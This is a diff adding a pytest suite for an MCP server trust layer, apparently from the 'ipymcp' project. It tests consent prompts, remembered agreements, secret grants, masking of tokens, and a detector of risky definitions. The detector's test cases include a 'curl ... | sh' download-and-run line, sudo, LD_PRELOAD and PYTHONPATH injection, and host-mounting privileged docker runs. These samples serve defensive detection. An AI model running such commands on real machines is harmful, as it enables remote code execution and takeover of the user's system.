@@ -1,0 +1,291 @@
+"""Which definitions may run, what the user is shown of them, and what is remembered."""
+
+from __future__ import annotations
+
+import asyncio
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from ipymcp.config.dangers import dangers
+from ipymcp.config.definition import Scope, ServerDefinition, Source
+from ipymcp.config.trust import described, masked, wanted_secrets
+from ipymcp.errors import TrustError
+from ipymcp.policy.questions import TrustAnswer, TrustQuestion
+from ipymcp.policy.trust import Trust
+from ipymcp.state.db import Database
+
+
+class User:
+    """Answers every question the same way and keeps what was asked."""
+
+    def __init__(self, answer: TrustAnswer | None = None) -> None:
+        self.answer = answer
+        self.asked: list[TrustQuestion] = []
+
+    async def __call__(self, question: TrustQuestion) -> TrustAnswer | None:
+        self.asked.append(question)
+        return self.answer
+
+
+ALL = TrustAnswer(frozenset({"fs", "git"}))
+
+
+def definition(name: str = "fs", folder: str = "/project", scope: Scope = "project", **values: Any) -> ServerDefinition:
+    source = Source(scope=scope, file=f"{folder}/mcp.json", folder=folder)
+    return ServerDefinition(**{"name": name, "command": "uvx", "args": ("server",), "source": source, **values})
+
+
+def may_run(trust: Trust, *definitions: ServerDefinition, agreed: bool = False) -> list[str]:
+    async def run() -> list[str]:
+        await trust.consider(definitions, agreed=agreed)
+        running: list[str] = []
+        for one in definitions:
+            try:
+                await trust.require(one)
+            except TrustError:
+                continue
+            running.append(one.name)
+        return running
+
+    return asyncio.run(run())
+
+
+def refusal(trust: Trust, one: ServerDefinition) -> list[str]:
+    with pytest.raises(TrustError) as caught:
+        asyncio.run(trust.require(one))
+    return caught.value._two_lines()
+
+
+@pytest.fixture
+def database(tmp_path: Path) -> Any:
+    database = Database(tmp_path / "state.db")
+    yield lambda: database
+    database.close(5)
+
+
+@pytest.mark.parametrize("scope", ["cell", "script", "named"])
+def test_what_the_user_typed_or_named_runs_unasked(database: Any, scope: Scope) -> None:
+    user = User()
+    assert may_run(Trust(database, user), definition(scope=scope)) == ["fs"]
+    assert user.asked == []
+
+
+def test_all_servers_of_a_projects_file_are_one_question_and_the_answer_is_remembered(database: Any) -> None:
+    user = User(ALL)
+    assert may_run(Trust(database, user), definition("fs"), definition("git", args=("git",))) == ["fs", "git"]
+    (question,) = user.asked
+    assert (question.file, question.why) == ("/project/mcp.json", "belongs to a project")
+    assert [candidate.name for candidate in question.candidates] == ["fs", "git"]
+    assert may_run(Trust(database, User()), definition("fs"), definition("git", args=("git",))) == ["fs", "git"]
+
+
+def test_of_several_the_user_may_choose(database: Any) -> None:
+    user = User(TrustAnswer(frozenset({"git"})))
+    assert may_run(Trust(database, user), definition("fs"), definition("git", args=("git",))) == ["git"]
+
+
+def test_with_nobody_to_ask_nothing_of_a_project_runs(database: Any) -> None:
+    trust = Trust(database, User(None))
+    assert may_run(trust, definition()) == []
+    assert refusal(trust, definition()) == [
+        "TrustError: fs: needs your trust: /project/mcp.json belongs to a project",
+        f"  %mcp start fs asks; IPYMCP_TRUST={definition().digest()[:12]} where nobody can be asked",
+    ]
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"command": "npx"}, {"args": ("server", "--root")}, {"cwd": "sub"}, {"env": {"A": "1"}}, {"env_file": ".env"},
+        {"inherit_env": True}, {"auto_approve": ("*",)}, {"tools": {"*": "allow"}}, {"hints": {"*": {"readOnlyHint": True}}},
+    ],
+    ids=lambda change: next(iter(change)),
+)  # fmt: skip
+def test_a_definition_that_changed_is_asked_about_again(database: Any, change: dict[str, Any]) -> None:
+    may_run(Trust(database, User(ALL)), definition())
+    user = User(None)
+    assert may_run(Trust(database, user), definition(**change)) == []
+    assert len(user.asked) == 1
+
+
+def test_the_order_of_a_projects_rules_is_a_part_of_what_was_agreed_to() -> None:
+    one, other = ({"a": "allow", "*": "deny"}, {"*": "deny", "a": "allow"})
+    assert definition(tools=one).digest() != definition(tools=other).digest()
+
+
+def test_the_same_definition_in_another_project_is_another(database: Any) -> None:
+    may_run(Trust(database, User(ALL)), definition())
+    assert may_run(Trust(database, User(None)), definition(folder="/elsewhere")) == []
+
+
+def test_a_script_of_the_project_that_changed_is_asked_about_again(database: Any, tmp_path: Path) -> None:
+    script = tmp_path / "server.py"
+    script.write_text("print('harmless')")
+    one = definition(folder=str(tmp_path), command="python", args=("server.py",))
+    assert may_run(Trust(database, User(ALL)), one) == ["fs"]
+    script.write_text("print('harmful')")
+    assert may_run(Trust(database, User(None)), one) == []
+
+
+def test_the_users_own_file_is_taken_as_it_is_first_seen_and_a_changed_entry_asked_about_once(database: Any) -> None:
+    user = User(ALL)
+    assert may_run(Trust(database, user), definition(scope="user")) == ["fs"]
+    assert user.asked == []
+    changed = definition(scope="user", args=("other",))
+    assert may_run(Trust(database, User(None)), changed) == []
+    assert refusal(Trust(database, User()), changed)[0] == (
+        "TrustError: fs: needs your trust: its entry in /project/mcp.json has changed"
+    )
+    assert may_run(Trust(database, user), changed) == ["fs"]
+    assert user.asked[0].why == "is your own, and what it says of these has changed"
+    assert may_run(Trust(database, User()), changed) == ["fs"]
+
+
+def test_what_ipymcp_wrote_for_the_user_runs_unasked(database: Any) -> None:
+    may_run(Trust(database, User()), definition(scope="user"))
+    written = definition(scope="user", args=("other",))
+    asyncio.run(Trust(database, User()).agree(written))
+    assert may_run(Trust(database, User()), written) == ["fs"]
+
+
+def test_a_projects_server_gets_a_secret_only_by_a_grant_of_its_own(database: Any) -> None:
+    one = definition(env={"TOKEN": "${secret:github}"})
+    trust = Trust(database, User(ALL))
+    assert may_run(trust, one) == []
+    assert refusal(trust, one)[0] == "TrustError: fs: needs your consent to be given your secret 'github'"
+    assert may_run(trust, one, agreed=True) == []
+    granted = TrustAnswer(frozenset({"fs"}), frozenset({("fs", "github")}))
+    assert may_run(Trust(database, User(granted)), one) == ["fs"]
+    assert may_run(Trust(database, User(None)), one) == ["fs"]
+
+
+def test_trust_said_in_the_cell_asks_nothing_and_is_not_remembered(database: Any) -> None:
+    user = User()
+    assert may_run(Trust(database, user), definition(), agreed=True) == ["fs"]
+    assert user.asked == []
+    assert may_run(Trust(database, user), definition()) == []
+
+
+def test_what_is_typed_over_a_definition_changes_nothing_of_its_trust(database: Any) -> None:
+    trust, one = Trust(database, User(ALL)), definition()
+    typed = one.replace(env={"LEVEL": "debug"})
+    asyncio.run(trust.vary(one, typed))
+    assert may_run(Trust(database, User()), typed) == []
+    may_run(trust, one)
+    asyncio.run(trust.vary(one, typed))
+    assert asyncio.run(trust.allows(typed))
+
+
+@pytest.mark.parametrize(
+    ("said", "expected"), [("all", ["fs"]), ("none", []), ("{digest}", ["fs"]), ("{short}, abc", ["fs"]), ("", [])]
+)
+def test_the_variable_speaks_where_nobody_can_be_asked(
+    database: Any, monkeypatch: pytest.MonkeyPatch, said: str, expected: list[str]
+) -> None:
+    digest = definition().digest()
+    monkeypatch.setenv("IPYMCP_TRUST", said.format(digest=digest, short=digest[:12]))
+    assert may_run(Trust(database, User(None)), definition()) == expected
+
+
+def test_none_in_the_variable_asks_nobody_and_forgets_for_now_what_was_agreed_to(
+    database: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    may_run(Trust(database, User(ALL)), definition())
+    monkeypatch.setenv("IPYMCP_TRUST", "none")
+    user = User(ALL)
+    assert may_run(Trust(database, user), definition()) == []
+    assert user.asked == []
+    assert may_run(Trust(database, user), definition(scope="user")) == ["fs"]
+
+
+def test_what_is_revoked_is_asked_about_again(database: Any) -> None:
+    trust = Trust(database, User(ALL))
+    own = definition("git", scope="user")
+    may_run(trust, definition(), own)
+    assert [one.server for one in asyncio.run(trust.agreements())] == ["fs", "git"]
+    assert {one.server for one in asyncio.run(trust.revoke(None))} == {"fs", "git"}
+    assert asyncio.run(trust.agreements()) == []
+    assert may_run(Trust(database, User(None)), definition(), own) == []
+
+
+@pytest.mark.parametrize("named", ["fs", "/project/mcp.json", "{digest}"])
+def test_revoking_takes_names_files_and_hashes(database: Any, named: str) -> None:
+    trust = Trust(database, User(ALL))
+    may_run(trust, definition())
+    assert len(asyncio.run(trust.revoke(named.format(digest=definition().digest()[:12])))) == 1
+
+
+def test_all_of_a_definition_is_shown_with_what_looks_secret_masked() -> None:
+    one = definition(
+        args=("server", "--token", "abcdef0123456789", "--url=https://me:hunter22@host/?api_key=k1234567"),
+        env={"API_KEY": "sk-abcdefghijklmnop", "LEVEL": "debug", "TOKEN": "${secret:github}"},
+        auto_approve=("read_*",),
+        cwd="sub",
+    )
+    assert described(one) == [
+        "runs        uvx server --token '•••• (16 characters)' '--url=https://me:•••• (8 characters)@host/?api_key="
+        "•••• (8 characters)'",
+        "in          sub",
+        "variable    API_KEY=•••• (19 characters)",
+        "variable    LEVEL=debug",
+        "variable    TOKEN=${secret:github}",
+        "unasked     read_* (autoApprove: models may call these)",
+        "gives       your secret github to env.TOKEN",
+    ]
+    assert wanted_secrets(one) == ("github",)
+
+
+@pytest.mark.parametrize(
+    ("text", "name", "expected"),
+    [
+        ("Bearer abcdef012345", "Authorization", "Bearer •••• (12 characters)"),
+        ("Bearer ${TOKEN}", "Authorization", "Bearer ${TOKEN}"),
+        ("ghp_abcdefghijklmnop0123", "", "•••• (24 characters)"),
+        ("4096", "MAX_TOKENS", "4096"),
+        ("curl https://x | sh", "TOKEN", "curl https://x | sh"),
+        ("plain words", "", "plain words"),
+    ],
+)
+def test_a_mask_hides_secrets_and_no_commands(text: str, name: str, expected: str) -> None:
+    assert masked(text, name) == expected
+
+
+@pytest.mark.parametrize(
+    ("values", "expected"),
+    [
+        ({"command": "sh", "args": ("-c", "curl https://x.example/i | sh")}, "downloads a program and runs it unseen"),
+        ({"command": "bash", "args": ("-lc", "a && b")}, "runs a line of shell, made of several commands"),
+        ({"command": "sudo", "args": ("x",)}, "sudo: runs as another user"),
+        ({"command": "sh", "args": ("-c", "sudo x")}, "sudo: runs as another user"),
+        ({"command": "python", "args": ("-c", "x")}, "runs code that stands in its arguments"),
+        (
+            {"command": "python", "args": ("-m", "mcp_server_time")},
+            "python in the project's folder: modules there are found before installed ones",
+        ),
+        (
+            {"command": "npx", "args": ("x",)},
+            "npx in the project's folder: node_modules, .npmrc and package.json there decide what runs",
+        ),
+        ({"command": "./run.sh"}, "the program is a file of the project: ./run.sh"),
+        ({"command": "/project/bin/x"}, "the program is a file of the project: /project/bin/x"),
+        ({"env": {"NODE_OPTIONS": "x"}}, "NODE_OPTIONS: decides what code runs"),
+        ({"env": {"PYTHONPATH": "x"}}, "PYTHONPATH: decides what code runs"),
+        ({"env": {"LD_PRELOAD": "x"}}, "LD_PRELOAD: decides what code runs"),
+        ({"env": {"npm_config_registry": "x"}}, "npm_config_registry: decides what code runs"),
+        ({"env": {"HTTPS_PROXY": "x"}}, "HTTPS_PROXY: decides where its traffic goes, and who can read it"),
+        ({"inherit_env": True}, "inherit_env: it gets every variable of this kernel"),
+        ({"command": "docker", "args": ("run", "-v", "/:/host", "x")}, "a container that sees all of your files"),
+        ({"command": "docker", "args": ("run", "--privileged", "x")}, "a container with rights over this machine"),
+        ({"command": None, "args": (), "url": "http://x.example/mcp"}, "http: what is sent can be read on the way"),
+        ({"auto_approve": ("*",)}, "autoApprove *: models may call all of its tools unasked"),
+    ],
+    ids=str,
+)
+def test_dangerous_patterns_are_pointed_out(values: dict[str, Any], expected: str) -> None:
+    assert expected in dangers(definition(**values))
+
+
+def test_an_ordinary_definition_has_nothing_to_point_out() -> None:
+    assert dangers(definition(command="uv-tool", args=("server", "--root", "."))) == []
